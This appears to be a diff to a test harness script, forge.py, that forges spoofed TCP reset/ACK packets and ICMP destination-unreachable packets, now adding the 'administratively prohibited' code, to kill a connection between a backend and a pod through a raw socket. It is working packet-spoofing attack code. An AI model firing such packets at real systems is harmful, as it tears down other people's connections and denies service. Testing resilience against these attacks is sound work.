@@ -1,6 +1,6 @@
 """Packets of an attacker that knows a connection's addresses and ports and not its sequence numbers.
 
-forge.py rst|icmp|ack BACKEND PORT POD PORT     for two seconds, one in a millisecond
+forge.py rst|icmp|denial|ack BACKEND PORT POD PORT     for two seconds, one in a millisecond
 """
 
 from __future__ import annotations
@@ -12,6 +12,8 @@ import time
 
 RST, SYN, ACK = 0x04, 0x02, 0x10
 FLAGS = {"rst": RST | ACK, "ack": ACK}
+CODES = {"icmp": 1, "denial": 13}
+"""Of "destination unreachable": no host, and administratively prohibited."""
 
 
 def checksum(data: bytes) -> int:
@@ -32,8 +34,8 @@ def tcp(source: str, sport: int, target: str, dport: int, flags: int) -> bytes:
     return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
 
 
-def icmp(quoted: bytes) -> bytes:
-    head = struct.pack("!BBHI", 3, 1, 0, 0) + quoted
+def icmp(code: int, quoted: bytes) -> bytes:
+    head = struct.pack("!BBHI", 3, code, 0, 0) + quoted
     return head[:2] + struct.pack("!H", checksum(head)) + head[4:]
 
 
@@ -43,7 +45,7 @@ def main() -> None:
         packet = ip(backend, pod, socket.IPPROTO_TCP, tcp(backend, int(port), pod, int(pod_port), FLAGS[kind]))
     else:
         sent = ip(pod, backend, socket.IPPROTO_TCP, tcp(pod, int(pod_port), backend, int(port), SYN))
-        packet = ip("10.7.0.2", pod, socket.IPPROTO_ICMP, icmp(sent))
+        packet = ip("10.7.0.2", pod, socket.IPPROTO_ICMP, icmp(CODES[kind], sent))
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
         print("ready", flush=True)
         end = time.monotonic() + 2
